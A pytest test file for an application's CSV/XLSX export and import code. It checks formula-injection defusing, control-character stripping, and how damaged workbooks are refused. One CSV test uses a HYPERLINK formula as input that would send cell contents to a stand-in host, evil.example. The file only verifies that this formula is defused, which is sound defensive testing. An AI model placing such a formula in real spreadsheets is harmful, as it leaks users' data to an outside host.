"""The shared CSV/XLSX writer: formula cells defused, control characters XLSX cannot hold dropped."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from app.spreadsheets import csv_bytes, safe_cell, xlsx_bytes, xlsx_cell


@pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-2+3", "@cmd", "\tx", "\rx"])
def test_formula_like_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


def test_ordinary_values_pass_unchanged():
    assert safe_cell("Acme") == "Acme"
    assert safe_cell(-3) == -3


def test_csv_bytes_defuse_every_cell():
    body = csv_bytes([["name"], ['=HYPERLINK("http://evil.example/?"&A1,"open")']]).decode("utf-8")
    assert body.startswith("\ufeffname\r\n")
    assert "\n\"'=HYPERLINK(" in body


def test_xlsx_drops_control_characters_it_cannot_hold():
    assert xlsx_cell("A\x00B\x1fC\tD") == "ABC\tD"
    workbook = load_workbook(io.BytesIO(xlsx_bytes("t", [["Acme\x00 Ltd", "=1+1", 3]])))
    assert [cell.value for cell in next(workbook.active.iter_rows())] == ["Acme Ltd", "'=1+1", 3]


def _rewritten(data: bytes, member: str, change) -> bytes:
    """The workbook with one part's XML changed (as a damaged or careless writer leaves it)."""
    import zipfile

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            target.writestr(item, change(content) if item.filename == member else content)
    return out.getvalue()


def _three_rows() -> bytes:
    return xlsx_bytes("Hazards", [["Hazard", "Situation"], ["H-1", "a"], ["H-2", "b"], ["H-3", "c"]])


def test_every_row_of_an_xlsx_is_read_whatever_its_dimension_tag_says():
    """A workbook whose sheet says <dimension ref="A1:B2"/> for 4 rows: read-only openpyxl read 1 hazard of 3."""
    import re
    import zipfile

    from app.spreadsheets import read_table

    small = _rewritten(_three_rows(), "xl/worksheets/sheet1.xml",
                       lambda xml: re.sub(rb"<sheetViews>", b'<dimension ref="A1:B2"/><sheetViews>', xml))
    assert b'<dimension ref="A1:B2"/>' in zipfile.ZipFile(io.BytesIO(small)).read("xl/worksheets/sheet1.xml")
    assert [row[0] for row in read_table("hazards.xlsx", small)] == ["Hazard", "H-1", "H-2", "H-3"]


@pytest.mark.parametrize("change", [
    lambda xml: xml[: len(xml) // 2],  # cut in half
    lambda xml: xml.replace(b'<c r="A2" t="inlineStr"', b'<c r="A2" t="n"').replace(b"<is><t>H-1</t></is>", b"<v>abc</v>"),
    lambda xml: xml.replace(b'r="A2"', b'r="ZZZZZZ99999999999"'),
])
def test_a_damaged_xlsx_sheet_is_refused_with_a_message_not_a_500(change):
    from app.spreadsheets import TableRefused, read_table

    with pytest.raises(TableRefused, match="cannot be read"):
        read_table("hazards.xlsx", _rewritten(_three_rows(), "xl/worksheets/sheet1.xml", change))
